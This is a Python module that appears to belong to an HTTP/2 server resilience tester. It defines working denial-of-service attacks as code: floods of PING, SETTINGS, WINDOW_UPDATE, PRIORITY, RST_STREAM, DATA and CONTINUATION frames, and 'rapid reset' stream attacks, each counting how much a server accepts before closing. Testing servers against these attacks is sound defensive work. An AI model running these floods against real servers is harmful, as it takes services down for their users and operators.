"""HTTP/2 frames in numbers that no honest client sends."""

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from .target import GaveWay, Session, headers


def send_until_closed(session, pieces):
    """Sends pieces until the server has had enough; how many it took."""
    sent = 0
    try:
        for piece in pieces:
            session.sock.sendall(piece)
            sent += 1
    except TimeoutError:
        raise GaveWay(f"{sent} pieces were taken, and then it neither read nor closed") from None
    except OSError:
        return sent
    if not session.receive(3):
        raise GaveWay(f"{sent} pieces were taken")
    return sent


def flood(frame, first=None):
    """The same frame, a hundred at a time."""

    def attack():
        session = Session()
        if first:
            session.raw(first(session))
        sent = send_until_closed(session, [frame.serialize() * 100] * 200)
        return f"closed after about {sent * 100}"

    return attack


def streams(follow, most=500):
    """Requests, each followed by a frame that undoes it."""

    def attack():
        session = Session()
        block = session.same_block()

        def hundred(number):
            for stream in range(number * 200 + 3, number * 200 + 203, 2):
                yield HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
                yield follow(stream).serialize()

        sent = send_until_closed(session, (b"".join(hundred(n)) for n in range(most)))
        return f"closed after about {sent * 100} streams"

    return attack


def begin(session):
    return HeadersFrame(1, session.block(headers()), flags=["END_HEADERS"])


ATTACKS = [
    ("PING flood", flood(PingFrame(0, b"12345678"))),
    ("SETTINGS flood", flood(SettingsFrame(0, {1: 4096}))),
    ("SETTINGS flood that changes the window", flood(SettingsFrame(0, {4: 0}))),
    ("WINDOW_UPDATE flood", flood(WindowUpdateFrame(0, 1))),
    ("PRIORITY flood", flood(PriorityFrame(1, depends_on=3, stream_weight=1))),
    ("RST_STREAM flood of closed streams", flood(RstStreamFrame(1, 8), begin)),
    ("empty DATA flood", flood(DataFrame(1, b""), begin)),
    ("DATA of nothing but padding", flood(DataFrame(1, b"", pad_length=200, flags=["PADDED"]), begin)),
    (
        "CONTINUATION flood",
        flood(ContinuationFrame(1, b"\x00\x01x\x01y" * 30), lambda s: HeadersFrame(1, s.block())),
    ),
    (
        "CONTINUATION flood of nothing",
        flood(ContinuationFrame(1, b""), lambda s: HeadersFrame(1, s.block())),
    ),
    ("rapid reset", streams(lambda stream: RstStreamFrame(stream, 8))),
    ("made to reset streams", streams(lambda stream: WindowUpdateFrame(stream, 0x7FFFFFFF))),
    ("made to reset streams by their own parent", streams(lambda s: PriorityFrame(s, depends_on=s))),
]
